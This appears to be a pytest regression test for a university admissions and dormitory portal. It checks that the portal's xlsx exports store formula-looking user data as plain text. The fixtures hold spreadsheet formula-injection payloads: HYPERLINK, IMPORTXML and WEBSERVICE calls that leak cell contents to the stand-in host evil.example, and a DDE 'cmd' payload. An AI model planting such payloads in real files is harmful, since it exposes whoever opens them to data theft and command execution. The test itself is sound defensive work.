"""Formula injection in the xlsx files the portal writes (issue 22, finding 7). Text that looks like a formula — an
e-mail, names typed by an applicant, a partner's imported list, names staff gave halls and rooms, a reference
institution — is planted in everything each export writes; every export endpoint is downloaded through the API and
no cell of any sheet may be a formula, nor start with = + - @ tab or CR without being marked as text (string type
and quotePrefix, server/integrations/xlsx.py). The planted values must be there as typed: nothing is dropped."""

from __future__ import annotations

import io
import time

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from server.dorm import bookings as dorm_bookings
from server.jobs import wait_for_background_jobs
from server.models import Term
from server.review import export as admin_export

from ..helpers import assert_ok
from .admin_support import API, FOREIGN_ADMIN, KZ_ADMIN, applicant_application, main_info, staff
from .dorm_support import applicant as dorm_applicant
from .dorm_support import book, genders

pytestmark = pytest.mark.usefixtures("no_server_errors")

STARTS = ("=", "+", "-", "@", "\t", "\r")
EMAIL = '=HYPERLINK("http://evil.example/?"&A1,"x")@example.com'
LAST = "=cmd|' /C calc'!A0"
FIRST = "+SUM(1,2)"
MIDDLE = "-2+3"
PHONE = "@SUM(A1:A9)"
CITIZENSHIP = "=1+1 страна"
PROGRAM = '+IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
INSTITUTION = '=HYPERLINK("http://evil.example","Школа")'
QUEUE_VALUES = {EMAIL, LAST, FIRST, MIDDLE, PHONE, CITIZENSHIP, PROGRAM, INSTITUTION}

HALL, BUILDING, FLOOR, SECTION, ROOM, ROOM_TYPE = "=1+2", "+корпус", "-1", "@этаж", "\t=секция", "\r=2"
RESIDENT_LAST, RESIDENT_EMAIL = '=HYPERLINK("http://evil.example")', "=2+5@example.com"
PARTNER_LAST, PARTNER_FIRST = '=WEBSERVICE("http://evil.example")', "+Иван"


def _institution_step() -> tuple[str, str]:
    """A step of the foreign questionnaire with an institution picker, and the picker's key."""
    from server import forms

    for form_key in admin_export.variant_form_keys("foreign"):
        for field in forms.get_step(form_key).get("fields", []):
            if field["type"] == "institution":
                return form_key, field["key"]
    raise AssertionError("no institution picker in the foreign questionnaire")


def _cells(data: bytes, where: str, numbers: set | None = None) -> set[str]:
    """Every text cell of every sheet (numbers into `numbers`); fails on a formula or on formula-looking text not
    marked as text."""
    workbook = load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                if cell.data_type == "n" and numbers is not None:
                    numbers.add(cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(STARTS):
                        assert cell.data_type == "s" and cell.quotePrefix, (where, cell.coordinate, cell.value)
    return texts


def _queue_data(factories):
    program = factories.study_program(name_ru=PROGRAM)
    citizenship = factories.citizenship(name_ru=CITIZENSHIP)
    institution = factories.institution(name=INSTITUTION)
    step, key = _institution_step()
    answers = main_info(False, last=LAST, first=FIRST, middle=MIDDLE, phone=PHONE)
    answers.setdefault(step, {})[key] = {"type": "list", "selected": institution.id}
    return applicant_application(
        factories, status=0, answers=answers, email=EMAIL, citizenship=citizenship, program=program
    )


def _partner_list() -> io.BytesIO:
    """A partner's people list whose names start like formulas (text cells, as a spreadsheet keeps them)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("people")
    sheet.append(["last_name", "first_name", "middle_name", "email", "phone", "gender"])
    row = []
    for value in (PARTNER_LAST, PARTNER_FIRST, "", "=partner@example.com", "+77011234567", "male"):
        cell = WriteOnlyCell(sheet, value)
        cell.data_type = "s"
        row.append(cell)
    sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def _dorm_data(client, factories):
    genders(factories)
    hall = factories.hall(name=HALL)
    section = factories.section(factories.floor(factories.building(hall, name=BUILDING), name=FLOOR), name=SECTION)
    room_type = factories.room_type(name=ROOM_TYPE, capacity=3, price=60000)
    room = factories.section_room(section, room_type, name=ROOM, external_reserved_places=1)
    named = dorm_applicant(factories)
    named.last_name, named.first_name = RESIDENT_LAST, None
    unnamed = dorm_applicant(factories, email=RESIDENT_EMAIL)
    unnamed.last_name = unnamed.first_name = None
    factories.db.session.commit()
    for user in (named, unnamed):
        booking = assert_ok(book(client, factories, user, hall, room_type))["booking"]
        dorm_bookings.confirm_booking_paid(booking["id"], f"ref-{booking['id']}")
    admin = factories.admin()
    headers = factories.auth_headers(admin)
    uploaded = client.post(
        f"{API}/admin/upload-users",
        data={"suborganization_code": "partner", "suborganization_name": "=1+1", "file": (_partner_list(), "p.xlsx")},
        headers=headers,
        content_type="multipart/form-data",
    )
    org_id = assert_ok(uploaded)["suborganization_id"]
    assert_ok(
        client.post(
            f"{API}/suborganizations/set-block",
            json={"suborganization_id": org_id, "room_id": room.id, "places": 1},
            headers=headers,
        )
    )
    members = assert_ok(
        client.post(f"{API}/admin/users-list-suborganizations", json={"suborganization_id": org_id}, headers=headers)
    )["list"]
    assert_ok(
        client.post(
            f"{API}/suborganizations/assign",
            json={"suborganization_id": org_id, "member_ids": [m["id"] for m in members]},
            headers=headers,
        )
    )
    return hall, headers


def _background_export(client, headers) -> bytes:
    started = client.post(f"{API}/admin/exports", headers=headers, json={"isLocal": False, "queue": "applied"})
    assert started.status_code == 202, started.get_data(as_text=True)
    export_id = started.get_json()["id"]
    deadline = time.monotonic() + 60
    while True:
        body = assert_ok(client.get(f"{API}/admin/exports/{export_id}", headers=headers))
        if body["status"] in ("done", "failed") or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert body["status"] == "done", body
    response = client.get(f"{API}/admin/exports/{export_id}/file", headers=headers)
    assert response.status_code == 200
    return response.get_data()


def test_no_export_writes_a_formula(client, factories, db):
    application = _queue_data(factories)
    hall, dorm_headers = _dorm_data(client, factories)
    queue_headers = staff(factories, FOREIGN_ADMIN)

    queue = client.get(f"{API}/admin/export", headers=queue_headers, query_string={"queue": "applied"})
    assert queue.status_code == 200, queue.get_data(as_text=True)[:500]
    numbers = set()
    assert QUEUE_VALUES <= _cells(queue.get_data(), "queue export", numbers)
    assert {application.id, db.session.get(Term, application.term_id).year} <= numbers  # numbers stay numbers

    try:
        assert QUEUE_VALUES <= _cells(_background_export(client, queue_headers), "background queue export")
    finally:
        assert wait_for_background_jobs(60)

    residents = client.get(f"{API}/admin/dorm-board/export", headers=dorm_headers, query_string={"hall_id": hall.id})
    assert residents.status_code == 200, residents.get_data(as_text=True)[:500]
    texts = _cells(residents.get_data(), "residents export")
    # An XML reader turns a raw CR into LF (Excel and LibreOffice too): the room type reads back as "\n=2".
    assert {HALL, BUILDING, FLOOR, SECTION, ROOM, ROOM_TYPE.replace("\r", "\n"), RESIDENT_LAST, RESIDENT_EMAIL} <= texts
    assert f"{PARTNER_LAST} {PARTNER_FIRST}" in texts

    template = client.get(f"{API}/admin/gov-grants/template", headers=staff(factories, KZ_ADMIN))
    assert template.status_code == 200
    assert _cells(template.data, "grant holders template")
